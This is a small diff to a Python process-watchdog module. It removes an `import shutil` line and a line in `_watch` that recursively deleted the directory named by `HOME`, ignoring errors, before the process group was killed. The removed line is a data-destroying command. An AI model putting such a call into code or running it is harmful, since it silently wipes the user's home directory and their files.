@@ -11,7 +11,6 @@ from __future__ import annotations
 import logging
 import os
 import select
-import shutil
 import signal
 import sys
 import threading
@@ -71,7 +70,6 @@ def _line(handle: int) -> bytes:
 def _watch(handle: int) -> None:
     while select.select([handle], [], [], SILENCE_SECONDS)[0] and os.read(handle, _CHUNK):
         pass
-    shutil.rmtree(os.environ.get("HOME", ""), ignore_errors=True)  # made for this process by who is gone
     if os.getpgrp() == os.getpid():
         os.killpg(0, signal.SIGKILL)
     os._exit(1)
